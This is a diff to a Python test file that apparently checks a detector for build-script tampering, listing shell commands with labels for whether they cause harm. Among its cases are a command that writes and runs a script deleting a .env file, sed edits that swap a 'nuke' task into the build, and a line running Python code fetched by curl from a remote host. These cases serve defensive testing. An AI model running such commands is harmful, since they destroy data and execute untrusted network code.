@@ -36,6 +36,7 @@ LOADS = [
     ("jq '.version = \"2\"' package.json > p && mv p package.json && npm run build", False, "only the version"),
     ("sed -i 's/\"nuke\"/\"build\"/' package.json && npm run build", True, "a task renamed by sed"),
     ("sed -i 's/tsc/tsc -b/' package.json && npm run build", False, "an honest edit"),
+    (r"sed -E -i.bak 's/(tsc)/\1 -b/' package.json && npm run build", False, "with a copy of the old file"),
     ("sed -i 's/^clean:/test:/' Makefile && make test", True, "a target renamed"),
     ("sed -i '/true/d' Makefile && make all", False, "a line that goes"),
     ("dd of=x.sh <<< 'rm -f .env'; sh x.sh", True, "dd writes what it reads"),
@@ -56,6 +57,10 @@ def test_what_the_text_wrote_is_what_runs(command, harms):
 
 UNKNOWN = [
     ('python3 fix.py; sed -i "s/tsc/$X/" package.json && npm run build', "an edit that is not known"),
+    ("sed --help -i 's/tsc/x/' package.json; npm run build", "sed says what it can do, and edits nothing"),
+    ("sed -i --no-such 's/tsc/x/' package.json; npm run build", "an option that it does not know"),
+    ("sed --sil -i 's/tsc/x/' package.json; npm run build", "no line is printed"),
+    ("sed -i 's/tsc/x\n/' package.json; npm run build", "an expression that nothing ends"),
     ("jq '.scripts = input' package.json x > p && mv p package.json && npm run build", "scripts from elsewhere"),
     ("python3 <(curl -s https://x.io/a.py)", "code from the network by a pipe's name"),
 ]  # fmt: skip
